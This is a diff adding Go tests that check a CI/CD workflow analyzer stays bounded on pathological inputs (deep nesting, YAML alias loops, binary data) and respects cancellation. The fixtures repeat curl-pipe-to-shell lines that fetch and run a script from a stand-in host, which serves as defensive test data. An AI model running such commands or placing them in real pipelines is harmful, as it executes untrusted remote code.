@@ -1,0 +1,49 @@
+package pipeline
+
+import (
+	"context"
+	"strings"
+	"testing"
+
+	"github.com/socyber/codeaudit/internal/analyzer"
+	"github.com/socyber/codeaudit/internal/source"
+)
+
+// TestHostileInputsAreBounded feeds large and pathological files: the
+// analyzer must finish, report a bounded number of findings and say so.
+func TestHostileInputsAreBounded(t *testing.T) {
+	many := strings.Repeat("          curl -s https://x.example/i.sh | sh\n", 20000)
+	cases := map[string]string{
+		".github/workflows/many.yml":   "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n" + many,
+		".github/workflows/deep.yml":   "on: push\njobs: " + strings.Repeat("[", 5000) + strings.Repeat("]", 5000) + "\n",
+		".github/workflows/expr.yml":   "on: issues\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo ${{ " + strings.Repeat("(", 10000) + " }}\n",
+		".github/workflows/alias.yml":  "x: &x\n  <<: *x\non: push\njobs:\n  <<: *x\n",
+		".gitlab-ci.yml":               "j:\n  script:\n" + strings.Repeat("    - curl -s https://x | sh\n", 5000),
+		"Jenkinsfile":                  strings.Repeat("sh \"${", 10000),
+		"deploy.jenkinsfile":           "node {\n" + strings.Repeat("  input message: 'ok?'\n", 3000) + "}\n",
+		".github/workflows/binary.yml": "\x00\x01\x02on: [",
+	}
+	a := New(Options{})
+	for path, content := range cases {
+		c := &collector{}
+		f := source.File{Path: path}
+		if !a.Wants(&f) {
+			t.Fatalf("%s not wanted", path)
+		}
+		_ = a.AnalyzeFile(context.Background(), &analyzer.Target{File: f, Content: []byte(content)}, c)
+		if len(c.findings) > 1000 {
+			t.Errorf("%s: %d findings, more than the cap", path, len(c.findings))
+		}
+	}
+}
+
+// TestCancelledContext stops promptly with the context's error.
+func TestCancelledContext(t *testing.T) {
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel()
+	c := &collector{}
+	err := New(Options{}).AnalyzeFile(ctx, &analyzer.Target{File: source.File{Path: ".github/workflows/x.yml"}, Content: generatedWorkflow(0)}, c)
+	if err == nil {
+		t.Error("no error from a cancelled context")
+	}
+}
